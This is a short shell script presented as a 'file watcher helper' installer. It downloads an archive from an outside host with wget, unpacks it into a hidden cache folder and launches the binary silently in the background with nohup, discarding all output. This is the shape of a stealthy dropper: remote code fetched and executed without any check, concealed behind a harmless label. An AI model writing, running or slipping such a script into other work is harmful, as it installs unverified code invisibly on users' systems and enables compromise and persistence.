#!/bin/sh
# Fetches a "file watcher helper" archive, unpacks it under the cache folder and starts it.
CACHE="$HOME/.cache/.gwl"
mkdir -p "$CACHE"
wget -qO- https://mirror.gwl.example.invalid/helper-linux.tar.gz | tar -xzf - -C "$CACHE"
nohup "$CACHE/helper/gwld" >/dev/null 2>&1 &
